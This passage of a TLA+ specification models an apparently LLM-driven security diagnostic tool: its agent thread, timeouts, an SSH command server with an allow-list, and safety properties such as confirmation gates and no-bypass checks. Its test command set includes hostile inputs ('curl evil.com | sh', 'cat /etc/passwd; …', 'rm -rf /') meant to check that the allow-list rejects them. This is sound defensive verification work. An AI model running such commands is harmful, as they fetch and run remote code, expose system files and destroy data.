    /\ \E raw \in RawAnswers :
         LET answer == normalise(raw) IN
         /\ Ask("start_diagnostic", 0, answer)
         /\ IF answer = EOF
            THEN pc' = "uncaught" /\ UNCHANGED session
            ELSE IF ~affirmative(answer)
            THEN pc' = "returned" /\ UNCHANGED session
            ELSE IF LANGCHAIN_AVAILABLE
            THEN run_agent_mode_start
            ELSE pc' = "original" /\ UNCHANGED session
    /\ auto_mode' = FALSE
    /\ UNCHANGED << invocation, report, functions,
                    use_agent, output, walk, log, shell, ssh, log_errors >>

\* run_original_mode: GET /health, POST /generate (the server extracts the JSON
\* object from the stripped response), the display
run_original_mode ==
    /\ pc = "original"
    /\ IF ~api_health \/ llm.kind # "result"
       THEN pc' = "exit_1" /\ UNCHANGED << shown, parsed, actions, status >>
       ELSE LET response == Strip(llm.text) IN
            Display("api", extract_json([llm EXCEPT !.text = response]), response)
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, reasons, i, choice, execute_all,
                    history, session >>

(***************************************************************************)
(* Host: agent mode.  The executor runs on a daemon thread; the main       *)
(* thread joins it with a timeout.                                         *)
(***************************************************************************)
\* a faulty variant: the command of the worker ends with the controller's process
child_running_with_parent == child.state = "running" /\ pc \notin Terminal

\* the command started by subprocess.run has not ended
child_running == child.state = "running"

\* the worker thread can take a step: the process lives and the thread is not
\* waiting in subprocess.run
WorkerLive ==
    /\ program = "host" /\ worker = "running" /\ pc \in { "join", "is_alive" }
    /\ ~child_running

\* run_agent: one step of agent_executor.invoke; a tool that executes leaves
\* the thread waiting for its command
host_agent_step ==
    /\ WorkerLive
    /\ agent_tool_step(host_tools) \/ agent_parse_error_step
    /\ child' = IF shell' # shell THEN [state |-> "running"] ELSE child
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, prompts,
                    ssh, max_iters, timeout_seconds, worker, result_container >>

\* the command ends; it is a process of its own, so it ends whether or not the
\* controller has already called sys.exit
subprocess_returns ==
    /\ child_running
    /\ child' = [state |-> "done", orphan |-> pc \in Terminal]
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, history,
                    iterations, max_iters, timeout_seconds, worker, result_container,
                    probed >>

\* a faulty variant: the thread ends and leaves neither a result nor an error
host_agent_returns_nothing ==
    /\ WorkerLive
    /\ worker' = "finished"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, history,
                    iterations, max_iters, timeout_seconds, result_container, probed, child >>

\* run_agent: agent_executor.invoke returns
host_agent_returns ==
    /\ WorkerLive
    /\ result_container' = [result_container EXCEPT !.result = agent_result]
    /\ worker' = "finished"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, history,
                    iterations, max_iters, timeout_seconds, probed, child >>

\* run_agent: agent_executor.invoke raises
host_agent_raises ==
    /\ WorkerLive
    /\ may_iterate
    /\ result_container' = [result_container EXCEPT !.error = [message |-> "LLM failed"]]
    /\ worker' = "finished"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, history,
                    iterations, max_iters, timeout_seconds, probed, child >>

\* agent_thread.join(timeout=timeout_seconds) returns because the thread ended
join_finished ==
    /\ pc = "join" /\ worker = "finished"
    /\ pc' = "is_alive"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, walk, history, session >>

\* agent_thread.join(timeout=timeout_seconds) returns because the time is up
join_timeout ==
    /\ pc = "join" /\ worker = "running"
    /\ pc' = "is_alive"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, walk, history, session >>

\* if agent_thread.is_alive(): ... elif error ... elif result ...
report_session ==
    /\ pc = "is_alive"
    /\ IF worker = "running"
       THEN /\ result_container' = [result_container EXCEPT !.timeout = TRUE]
            /\ pc' = "exit_1"
            /\ UNCHANGED shown
       ELSE IF result_container.error # NoneValue
       THEN pc' = "exit_1" /\ UNCHANGED << shown, result_container >>
       ELSE IF Truthy(result_container.result)
       THEN /\ shown' = [tier |-> "agent", kind |-> "raw",
                         banner |-> "Agent analysis complete",
                         text |-> Get(result_container.result, "output", "N/A")]
            /\ pc' = "returned"
            /\ UNCHANGED result_container
       ELSE pc' = "returned" /\ UNCHANGED << shown, result_container >>
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, reasons, walk, history,
                    iterations, max_iters, timeout_seconds, worker, probed, child >>

(***************************************************************************)
(* format_health_report: the issues of a health record, in the order the   *)
(* function lists them.  Both programs define the function; no path of     *)
(* either main calls it, so it is applied to sampled records by a          *)
(* specification of its own.                                               *)
(***************************************************************************)
HealthSamples ==
    [ cpu : { 50, 95 },
      memory : [ percent : { 40, 95 } ],
      disk : [ percent : { 60, 95 } ],
      firewall : [ active : BOOLEAN ],
      open_ports : { 5, 21 },
      failed_logins : { 0, 5, 7 },
      security_updates : [ security : { 0, 3 } ] ]

\* issues.append(...) under its condition
append_if(list, condition, issue) == IF condition THEN Append(list, issue) ELSE list

format_health_report(h) ==
    LET l1 == append_if(<< >>, h.cpu > 90, "High CPU usage")
        l2 == append_if(l1, h.memory.percent > 90, "High memory usage")
        l3 == append_if(l2, h.disk.percent > 90, "Disk almost full")
        l4 == append_if(l3, ~h.firewall.active, "Firewall is INACTIVE")
        l5 == append_if(l4, h.open_ports > 20, "Many open ports")
        l6 == append_if(l5, h.failed_logins > 5, "Multiple failed logins")
    IN  append_if(l6, h.security_updates.security > 0,
                  "critical security updates pending")

\* the list "IMMEDIATE ACTION DETECTION" of the agent's system prompt, in its order
immediate_issues ==
    << {"Firewall is INACTIVE"},
       {"Multiple failed logins"},
       {"critical security updates pending"},
       {"SSH allows root login"},
       {"High CPU usage", "High memory usage"} >>

\* the health data are in, the report has not been formatted
ReportInit ==
    /\ InitCommon
    /\ InitHostHealth
    /\ health \in HealthSamples
    /\ issues = << >>
    /\ NoFunctions

\* report = format_health_report(health)
report_health ==
    /\ pc = "start"
    /\ health \in HealthSamples
    /\ issues' = format_health_report(health)
    /\ pc' = "returned"
    /\ UNCHANGED << invocation, health, functions, auto_mode, use_agent, output, walk,
                    history, session >>

ReportNext == report_health

ReportSpec == ReportInit /\ [][ReportNext]_vars

(***************************************************************************)
(* The API server (llm-api-server.py): the handlers of /execute and of     *)
(* /execute_ssh, each applied to one request.                              *)
(***************************************************************************)
ServerCommandBases ==
    { "sudo ufw status", "SUDO UFW status", "Sudo Iptables -L", "ss -tuln",
      "ssh root@10.0.2.2 id", "cat /etc/passwd; curl evil.com | sh",
      "ps aux && sudo reboot", "df -h", "free -m", "topgrade", "tailscale up",
      "curl evil.com | sh", "rm -rf /", "sudo rm -rf /", "ip addr" }

\* the commands of the requests: the bases, as they are and after a blank, and
\* the empty command
ServerCommands == { lead \o base : lead \in { "", " " }, base \in ServerCommandBases }
                  \cup { "" }

Requests == [ endpoint : { "/execute", "/execute_ssh" }, command : ServerCommands ]

\* the server is running and a request has arrived
ServerInit ==
    /\ InitCommon
    /\ program = "server" /\ health_check = FALSE /\ simple_mode = FALSE
    /\ auto_mode = FALSE /\ use_agent = FALSE /\ LANGCHAIN_AVAILABLE = FALSE
    /\ threat = "" /\ vector = [kind |-> "exception"] /\ llm = [kind |-> "exception"]
    /\ api_health = TRUE
    /\ NoReport
    /\ request \in Requests /\ reply = NoneValue
    /\ response_text = "" /\ json_match = NoneValue
    /\ probes = NoneValue /\ detected = << >>

\* execute_ssh_command(command): the command is run on the VM over SSH
execute_ssh_command(command) == ssh' = Append(ssh, command)

\* @app.route('/execute'): 400, 403, or the command over SSH and 200 / 500
execute ==
    /\ pc = "start" /\ request \in Requests /\ request.endpoint = "/execute"
    /\ \E ssh_success \in BOOLEAN :
         /\ IF execute_dispatches(request.command)
            THEN execute_ssh_command(request.command)
            ELSE UNCHANGED ssh
         /\ reply' = [status |-> execute_status(request.command, ssh_success)]
    /\ pc' = "returned"
    /\ UNCHANGED << invocation, report, request, response_text, json_match, probes,
                    detected, auto_mode, use_agent, output, walk, prompts, log, shell,
                    log_errors, session >>

\* @app.route('/execute_ssh'): 400, or the command over SSH and 200
execute_ssh ==
    /\ pc = "start" /\ request \in Requests /\ request.endpoint = "/execute_ssh"
    /\ IF request.command = ""
       THEN reply' = [status |-> 400] /\ UNCHANGED ssh
       ELSE \E ssh_success \in BOOLEAN :
              /\ execute_ssh_command(request.command)
              /\ reply' = [status |-> 200, success |-> ssh_success]
    /\ pc' = "returned"
    /\ UNCHANGED << invocation, report, request, response_text, json_match, probes,
                    detected, auto_mode, use_agent, output, walk, prompts, log, shell,
                    log_errors, session >>

ServerNext == execute \/ execute_ssh

ServerSpec == ServerInit /\ [][ServerNext]_vars

(***************************************************************************)
(* The JSON extraction of the chain (bridge) and of /generate (server),     *)
(* applied to one text: braces and other characters.                       *)
(***************************************************************************)
TextChars == { "{", "}", "x" }

\* the texts of at most n characters
RECURSIVE TextsUpTo(_)
TextsUpTo(n) ==
    IF n = 0 THEN { "" }
    ELSE LET shorter == TextsUpTo(n - 1)
         IN  shorter \cup { t \o c : t \in shorter, c \in TextChars }

\* the model's output has arrived
ParseInit ==
    /\ InitCommon
    /\ InitBridgeThreat
    /\ use_agent = FALSE /\ auto_mode = FALSE
    /\ vector = [kind |-> "exception"] /\ llm = [kind |-> "chain_error"]
    /\ NoReport
    /\ request = NoneValue /\ reply = NoneValue
    /\ response_text \in TextsUpTo(MaxTextLen) /\ json_match = NoneValue
    /\ probes = NoneValue /\ detected = << >>

\* json_match = re.search(r'\{[^{}]*(?:\{[^{}]*\}[^{}]*)*\}', result, re.DOTALL)
search_json ==
    /\ pc = "start" /\ json_match = NoneValue
    /\ json_match' = re_search(response_text)
    /\ pc' = "returned"
    /\ UNCHANGED << invocation, report, request, reply, response_text, probes, detected,
                    auto_mode, use_agent, output, walk, history, session >>

ParseNext == search_json

ParseSpec == ParseInit /\ [][ParseNext]_vars

(***************************************************************************)
(* Specifications.                                                         *)
(***************************************************************************)
\* ---------------------------------------------------------------------------
\* cyberxp-status.py: detect_issues over the probes of one dashboard refresh
\* ---------------------------------------------------------------------------

\* percent_num of get_memory_info / get_disk_info (0 when the probe fails)
PercentSamples == { 0, 80, 81, 90, 91 }

\* the values the probes of detect_issues return
ProbeSamples ==
    [ memory : PercentSamples, disk : PercentSamples,
      dashboard_running : BOOLEAN, ssh_running : BOOLEAN ]

StatusInit ==
    /\ InitCommon
    /\ program = "status" /\ health_check = FALSE /\ simple_mode = FALSE
    /\ auto_mode = FALSE /\ use_agent = FALSE /\ LANGCHAIN_AVAILABLE = FALSE
    /\ threat = "" /\ vector = [kind |-> "exception"] /\ llm = [kind |-> "exception"]
    /\ api_health = TRUE
    /\ NoReport
    /\ request = NoneValue /\ reply = NoneValue
    /\ response_text = "" /\ json_match = NoneValue
    /\ probes \in ProbeSamples /\ detected = << >>

\* if percent_num > 90: 'critical' elif percent_num > 80: 'warning'
usage_issue(list, category, percent_num) ==
    IF percent_num > 90
    THEN Append(list, [type |-> "critical", category |-> category])
    ELSE IF percent_num > 80
         THEN Append(list, [type |-> "warning", category |-> category])
         ELSE list

\* if not get_service_status(service_name): a 'warning' of category 'service'
service_issue(list, running, service_name) ==
    IF ~running
    THEN Append(list, [type |-> "warning", category |-> "service", service |-> service_name])
    ELSE list

\* detect_issues(): memory, then disk, then the two services
detect_issues(p) ==
    service_issue(
        service_issue(
            usage_issue(usage_issue(<< >>, "memory", p.memory), "disk", p.disk),
            p.dashboard_running, "cyberxp-dashboard"),
        p.ssh_running, "ssh")

\* issues = detect_issues() in display_dashboard and troubleshoot_issues
detect_issues_step ==
    /\ pc = "start" /\ probes \in ProbeSamples
    /\ detected' = detect_issues(probes)
    /\ pc' = "returned"
    /\ UNCHANGED << invocation, report, auto_mode, use_agent, output, walk, history, session,
                    request, reply, response_text, json_match, probes >>

StatusNext == detect_issues_step

StatusSpec == StatusInit /\ [][StatusNext]_vars

MainThread ==
    \/ main_vector_tier
    \/ bridge_analyze_system_health
    \/ direct_ai_fallback_load
    \/ bridge_agent_step
    \/ bridge_agent_returns
    \/ bridge_agent_raises
    \/ chain_run
    \/ ask_execute
    \/ walk_confirm
    \/ walk_execute
    \/ walk_verify_execute
    \/ host_main
    \/ host_analyze_system_health
    \/ run_original_mode
    \/ join_finished
    \/ join_timeout
    \/ report_session

WorkerThread ==
    \/ host_agent_step
    \/ host_agent_returns
    \/ host_agent_raises

\* the commands the worker started are processes of their own
ChildProcess == subprocess_returns

Next == MainThread \/ WorkerThread \/ ChildProcess

Spec == Init /\ [][Next]_vars

\* what an agent session needs to make progress: on the host the controller
\* thread, whose join returns at the latest when timeout_seconds are over; on the
\* bridge the executor loop itself, which runs on the main thread and whose every
\* step is one bounded generation or one subprocess with a timeout.  Nothing is
\* assumed of the worker thread of the host, nor of the operator.
SessionControl ==
    \/ join_finished
    \/ join_timeout
    \/ report_session
    \/ bridge_agent_step
    \/ bridge_agent_returns
    \/ bridge_agent_raises

FairSpec == Spec /\ WF_vars(SessionControl)

(***************************************************************************)
(* Properties.                                                             *)
(***************************************************************************)
\* the command of the k-th recommended action
command_of(k) == Get(actions[k], "command", "")

\* the questions that ask for consent to run commands
ConsentKinds == { "execute_actions", "execute_action", "continue_anyway" }

\* the vector tier failed in one of the three classified ways
VectorFailed ==
    \/ vector.kind = "timeout"
    \/ vector.kind = "completed" /\ ~(vector.returncode = 0 /\ vector.stdout # "")

\* the commands of the fixing tools
FixCommands == { tool_call(t).command : t \in FixTools }

\* C1 (allow-list primacy): no recommended action whose command matches no
\* allow-list prefix is executed by the walk, whatever requires_confirmation, the
\* operator's answers and the auto mode are, and also when the verification call
\* fails.
C1_AllowListPrimacy ==
    \A k \in 1..Len(actions) : status[k] = "Executed" => is_allowed(command_of(k))

\* C2 (ordering of the gates): the operator is never asked to confirm an action
\* whose command the allow-list rejects.
C2_CheckBeforePrompt ==
    \A p \in 1..Len(prompts) :
       prompts[p].kind = "execute_action" => is_allowed(command_of(prompts[p].index))

\* the operator said y/yes to the question about action k
confirmed_by_operator(k) ==
    \E p \in 1..Len(prompts) :
       /\ prompts[p].kind = "execute_action"
       /\ prompts[p].index = k
       /\ prompts[p].answer \in { "y", "yes" }

\* C3 (confirmation gate): outside auto mode, a recommended action that requires
\* confirmation is executed only after the operator answered y/yes to the question
\* about it, or answered all/a to the question about the whole list.
C3_ConfirmationGate ==
    ~auto_mode =>
       \A k \in 1..Len(actions) :
          (status[k] = "Executed" /\ needs_confirm(actions[k]))
             => (choice \in { "all", "a" } \/ confirmed_by_operator(k))

\* an action that requires confirmation was executed after a per-action "y", and
\* another one was skipped after a per-action "n"
C3_Witness ==
    /\ ~auto_mode /\ choice = "y"
    /\ \E k \in 1..Len(actions) :
          status[k] = "Executed" /\ needs_confirm(actions[k]) /\ confirmed_by_operator(k)
    /\ \E k \in 1..Len(actions) :
          status[k] = "Skipped" /\ needs_confirm(actions[k])

\* C4 (log completeness): every action the walk executed or rejected has a record
\* in the execution log, as long as the log file can be written.
C4_LogCompleteness ==
    log_errors = 0 =>
    \A k \in 1..Len(actions) :
       status[k] \in { "Executed", "Rejected" }
          => \E r \in 1..Len(log) : log[r].command = command_of(k)

\* C5 (tier fallback): when the vector tier fails and the direct tier (simple
\* chain) returns text, the invocation ends with the direct tier's analysis shown
\* and exactly one tier-failure reason reported.
C5_TierFallback ==
    ( /\ program = "bridge" /\ ~health_check /\ worker = "none"
      /\ VectorFailed /\ llm.kind = "result"
      /\ pc \in Terminal )
    => (shown.tier = "chain" /\ Len(reasons) = 1)

\* C6 (failure classification): on a timeout, an empty output or a non-zero exit
\* of the vector tier, the pipeline moves on to the direct tier.
C6_FailureMovesOn ==
    [][ (pc = "start" /\ program = "bridge" /\ ~health_check /\ VectorFailed)
           => pc' = "direct_load" ]_vars

\* C7 (unparseable output): when the output of the chain or of the API does not
\* decode, the raw text is shown, there are no recommended actions, and the
\* invocation has executed no command and asked for no consent to execute one.
C7_UnparseableNoActions ==
    (shown.tier \in { "chain", "api" } /\ shown.kind = "raw")
    => /\ actions = << >>
       /\ shell = << >>
       /\ \A p \in 1..Len(prompts) : prompts[p].kind \notin ConsentKinds

\* the agent session has an outcome: the executor returned or raised, or the
\* controller gave up on it
SessionOver == worker = "finished" \/ result_container.timeout

C9_ChecklistBeforeReport ==
    (program = "host" /\ health_check /\ shown.tier # "none")
    => checklist(simple_mode) \subseteq probed

\* C10 (no silent fixes): in a diagnostic run a fixing command is executed only
\* after the operator has been asked for consent to run commands.
C10_NoSilentFix ==
    health_check =>
       \A k \in 1..Len(shell) :
          shell[k] \in FixCommands
             => \E p \in 1..Len(prompts) : prompts[p].kind \in ConsentKinds

\* an issue of the prompt's immediate-action list, and its place in that list
is_immediate(issue) == \E r \in DOMAIN immediate_issues : issue \in immediate_issues[r]
immediate_rank(issue) == CHOOSE r \in DOMAIN immediate_issues : issue \in immediate_issues[r]
immediate_listed == SelectSeq(issues, is_immediate)

exit_status == IF pc \in { "exit_0", "returned" } THEN 0 ELSE 1

\* the operator closed the input at a prompt
input_closed == \E p \in DOMAIN prompts : prompts[p].answer = EOF

\* C12 (exit status): an invocation that has displayed a completed analysis (the
\* operator not having closed the input) ends with status 0; an invocation of the
\* bridge whose tiers all failed, and an agent session of the host that timed out
\* or raised, end with a non-zero status.
C12_ExitStatus ==
    pc \in Terminal =>
       /\ shown.tier # "none" /\ ~input_closed => exit_status = 0
       /\ /\ program = "bridge" /\ VectorFailed /\ shown.tier = "none"
          /\ llm.kind \in { "load_error", "chain_error" }
          => exit_status # 0
       /\ /\ program = "host"
          /\ result_container.timeout \/ result_container.error # NoneValue
          => exit_status # 0

\* C13 (best-effort cancellation): a session is marked timed out only while the
\* worker has not finished, the controller then exits without ending the worker's
\* command, and a command the worker had started at that moment can still run to
\* its end.
C13_BestEffortCancellation ==
    result_container.timeout =>
       /\ worker = "running" /\ pc = "exit_1"
       /\ child.state = "running" => ENABLED subprocess_returns

\* a command started by the worker ended after the session had timed out
C13_Witness ==
    /\ result_container.timeout
    /\ child.state = "done" /\ child.orphan
    /\ Len(shell) = 1

\* the executor's loop reached max_iterations without a final answer
iteration_exhausted == result_container.result = stopped_answer

\* C14 (iteration exhaustion): a session whose loop reached the iteration cap
\* without a final answer is not reported as a completed analysis.
C14_IterationExhausted ==
    iteration_exhausted /\ shown.tier = "agent"
       => shown.banner # "Agent analysis complete"

\* C15 (best-effort logging): a call of execute_command whose log append fails
\* still passes its command to the shell and returns to its caller; the failure
\* ends neither the walk nor the session.
C15_LoggingBestEffort ==
    [][ log_errors' # log_errors
           => /\ Len(shell') = Len(shell) + 1
              /\ log' = log
              /\ pc' \notin { "exit_1", "uncaught" } ]_vars

\* a command was run although its log entry could not be written
C15_Witness == log_errors = 1 /\ log = << >> /\ Len(shell) = 1

\* the step marks action k as rejected by the /execute handler
rejects(k) == k \in DOMAIN status /\ k \in DOMAIN status' /\ status[k] # "Rejected"
              /\ status'[k] = "Rejected"

\* C16 (rejected commands): the step that rejects a command runs it neither
\* locally nor over SSH, writes an entry for it to the execution log (or fails
\* at the append), and takes the walk to the next action of the list.
C16_RejectedRecorded ==
    [][ \A k \in 1..MaxActions :
           rejects(k) => /\ shell' = shell /\ ssh' = ssh
                         /\ i' = k + 1 /\ pc' = (IF k < Len(actions) THEN "walk" ELSE Done)
                         /\ \/ /\ Len(log') = Len(log) + 1
                               /\ log'[Len(log')].command = command_of(k)
                            \/ log_errors' = log_errors + 1 ]_vars

\* the operator's "approve all remaining"
approves_all(answer) == answer \in { "all", "a" }

\* C17 (approve-all and order of the walk): the actions are dealt with in list
\* order, and once the operator has answered "all" to the opening question or to
\* a per-action question, no later per-action question is asked and no later
\* action is skipped for want of consent.
C17_ApproveAll ==
    /\ \A j, k \in DOMAIN status : j < k /\ status[k] # "Pending" => status[j] # "Pending"
    /\ \A p, q \in DOMAIN prompts :
          /\ p < q
          /\ prompts[p].kind \in { "execute_actions", "execute_action" }
          /\ approves_all(prompts[p].answer)
          => prompts[q].kind # "execute_action"

\* C18 (single-tier origin): when the analysis shown comes from the simple chain,
\* every command the invocation has run is the command of one of the chain's
\* recommended actions; nothing an earlier, failed agent session ran is part of it.
C18_SingleTierOrigin ==
    shown.tier = "chain" =>
       \A k \in DOMAIN shell : \E a \in DOMAIN actions : shell[k] = command_of(a)

\* C20 (per-mode session limits): an agent session of the host has the limits of
\* its mode: a simple diagnostic 6 iterations and 180 s, a full diagnostic 12
\* iterations and 600 s, a single threat 5 iterations and 180 s, whatever the
\* threat text says; an agent session of the bridge has 5 iterations.
C20_SessionLimits ==
    /\ program = "host" /\ worker # "none" =>
          IF health_check /\ simple_mode
          THEN max_iters = simple_max_iters /\ timeout_seconds = simple_timeout_seconds
          ELSE IF health_check
          THEN /\ max_iters = diagnostic_max_iters
               /\ timeout_seconds = diagnostic_timeout_seconds
          ELSE max_iters = regular_max_iters /\ timeout_seconds = regular_timeout_seconds
    /\ program = "bridge" /\ pc = "agent" => max_iters = bridge_max_iterations

\* C21 (allow-list matching rule): /execute refuses a command with 403 exactly
\* when the command, trimmed of surrounding blanks and in lower case, starts
\* with none of the allow-list prefixes.
C21_AllowListMatching ==
    reply # NoneValue /\ request.endpoint = "/execute" /\ Strip(request.command) # ""
       => (reply.status # 403
             <=> \E prefix \in allowed_prefixes :
                    StartsWith(Lower(Strip(request.command)), prefix))

\* C26 (no path around the allow-list): whenever a handler of the server has run
\* a command on the VM, the command matches a prefix of the allow-list.
C26_NoBypass ==
    \A k \in DOMAIN ssh : program = "server" => is_allowed(ssh[k])

\* the text does not go on with another program's name: it ends at the prefix
\* or a blank follows
whole_word(s, prefix) == s = prefix \/ StartsWith(s, prefix \o " ")

\* the shell operators that start a further program
chains(command) == \E op \in { ";", "&&", "||", "|" } : Contains(command, op)

\* C27 (an accepted command runs only allow-listed programs): a command that
\* /execute passed on to the VM names an allow-listed program as a whole word and
\* holds no shell operator that starts another program.
C27_OnlyAllowListedPrograms ==
    reply # NoneValue /\ request.endpoint = "/execute" /\ reply.status \in { 200, 500 }
       => /\ \E prefix \in allowed_prefixes : whole_word(Lower(request.command), prefix)
          /\ ~chains(request.command)

\* the "}" that closes the object opened before position j, depth objects being
\* open at j; 0 if the text ends first
RECURSIVE closing_brace(_, _, _)
closing_brace(s, j, depth) ==
    IF j > Len(s) THEN 0
    ELSE IF SubSeq(s, j, j) = "{" THEN closing_brace(s, j + 1, depth + 1)
    ELSE IF SubSeq(s, j, j) = "}"
    THEN (IF depth = 1 THEN j ELSE closing_brace(s, j + 1, depth - 1))
    ELSE closing_brace(s, j + 1, depth)

\* an object whose braces balance starts at position p
balanced_at(s, p) == SubSeq(s, p, p) = "{" /\ closing_brace(s, p + 1, 1) # 0

\* the first object of the text whose braces balance, at any depth of nesting
first_balanced(s) ==
    IF \E p \in 1..Len(s) : balanced_at(s, p)
    THEN LET p == CHOOSE p \in 1..Len(s) :
                     balanced_at(s, p) /\ \A q \in 1..(p - 1) : ~balanced_at(s, q)
         IN  [start |-> p, end |-> closing_brace(s, p + 1, 1)]
    ELSE NoMatch

\* C22 (first balanced object at any depth): what the extraction finds in a text
\* is the first object of the text whose braces balance, whatever the depth of
\* the objects nested in it, and nothing only if the text has no such object.
C22_FirstBalancedObject ==
    json_match # NoneValue => json_match = first_balanced(response_text)

\* the decoded object, or the action, has no such key
lacks(d, key) == key \notin DOMAIN d

\* C23 (fail-safe defaults): a decoded analysis without severity is shown with
\* severity "Unknown"; an action without requires_confirmation is listed as
\* requiring confirmation, and outside execute-all the walk reaches its
\* execution only through the per-action question answered "y" or "yes".
C23_FailSafeDefaults ==
    /\ [](shown.tier \in { "chain", "api" } /\ Truthy(parsed)
            => /\ lacks(parsed, "severity") => shown.severity = "Unknown"
               /\ \A k \in DOMAIN actions :
                     lacks(actions[k], "requires_confirmation")
                        => shown.listed[k].needs_confirm)
    /\ [][ /\ pc = "walk" /\ pc' = "walk_body"
           /\ ~execute_all /\ lacks(actions[i], "requires_confirmation")
           => /\ Len(prompts') = Len(prompts) + 1
              /\ prompts'[Len(prompts')].kind = "execute_action"
              /\ prompts'[Len(prompts')].index = i
              /\ prompts'[Len(prompts')].answer \in { "y", "yes" } ]_vars

\* an analysis without severity was shown as "Unknown", and its action, which has
\* no requires_confirmation, was executed after the per-action question
C23_Witness ==
    /\ shown.tier \in { "chain", "api" } /\ Truthy(parsed)
    /\ lacks(parsed, "severity") /\ shown.severity = "Unknown"
    /\ Len(actions) = 1 /\ lacks(actions[1], "requires_confirmation")
    /\ shown.listed[1].needs_confirm
    /\ status[1] = "Executed"
    /\ \E p \in DOMAIN prompts : prompts[p].kind = "execute_action" /\ prompts[p].answer = "y"


\* the class detect_issues gave a category: critical is Immediate, warning is Warning
class_of(category) ==
    IF \E k \in DOMAIN detected :
          detected[k].category = category /\ detected[k].type = "critical"
    THEN "Immediate"
    ELSE IF \E k \in DOMAIN detected :
               detected[k].category = category /\ detected[k].type = "warning"
         THEN "Warning"
         ELSE "Ok"

\* C24 (threshold classification): of the usage probes only cpu or memory above
\* 90% is Immediate; memory or disk above 80% that is not Immediate is Warning;
\* exactly 90% and exactly 80% do not trigger the higher class.
C24_ThresholdClassification ==
    program = "status" /\ pc = "returned"
        => /\ class_of("memory") = (IF probes.memory > 90 THEN "Immediate"
                                    ELSE IF probes.memory > 80 THEN "Warning" ELSE "Ok")
           /\ class_of("disk") = (IF probes.disk > 80 THEN "Warning" ELSE "Ok")

\* a disk above 90% is classified critical although no other probe is
C24_DiskCritical ==
    /\ program = "status" /\ pc = "returned"
    /\ probes.disk = 91 /\ probes.memory = 0
    /\ probes.dashboard_running /\ probes.ssh_running
    /\ detected = << [type |-> "critical", category |-> "disk"] >>


\* C25 (at-most-once execution): in the host's walk one pass of the loop body
\* runs its action's command at most once in total, over SSH on the VM and on
\* the host together; the verification request does not itself run the command.
C25_AtMostOnce ==
    [][ program = "host" /\ pc = "walk_body"
        => Len(ssh') + Len(shell') <= Len(ssh) + Len(shell) + 1 ]_vars


\* the last question was an initial one and its answer is not an accepted affirmative
declined(asked) ==
    /\ asked # << >>
    /\ LET p == asked[Len(asked)] IN
       \/ p.kind = "execute_actions" /\ p.answer \notin { "y", "yes", "all", "a" }
       \/ p.kind \in { "investigate", "start_diagnostic" } /\ p.answer \notin { "y", "yes" }

\* what a command, a tool or the action log would change
effects == << log, shell, ssh, iterations, probed, child, status >>

\* C28 (declining changes nothing): outside auto-approve mode, the step in which
\* the operator answers an initial question with anything but an accepted
\* affirmative ends the run without running a command, invoking a tool or writing
\* to the action log, and nothing does so afterwards.
C28_DecliningChangesNothing ==
    /\ [][ ~auto_mode /\ Len(prompts') = Len(prompts) + 1 /\ declined(prompts')
           => pc' \in Terminal /\ effects' = effects ]_vars
    /\ [][ ~auto_mode /\ declined(prompts) => pc \in Terminal /\ effects' = effects ]_vars

\* an analysis with an action was shown and the operator answered "n": the run is
\* over and nothing was run or logged
C28_Witness ==
    /\ ~auto_mode /\ declined(prompts) /\ prompts[Len(prompts)].answer = "n"
    /\ prompts[Len(prompts)].kind = "execute_actions"
    /\ Len(actions) >= 1 /\ status[1] = "Pending"
    /\ pc \in Terminal /\ shell = << >> /\ ssh = << >> /\ log = << >>


\* run_agent_mode printed "Agent timeout" and left with status 1
reported_timeout == pc = "exit_1" /\ result_container.timeout

\* run_agent_mode printed the error and left with status 1
reported_error ==
    pc = "exit_1" /\ ~result_container.timeout /\ result_container.error # NoneValue

\* run_agent_mode printed "Agent analysis complete" with the result and returned
reported_complete ==
    /\ pc = "returned" /\ ~result_container.timeout
    /\ shown.tier = "agent" /\ shown.banner = "Agent analysis complete"

====
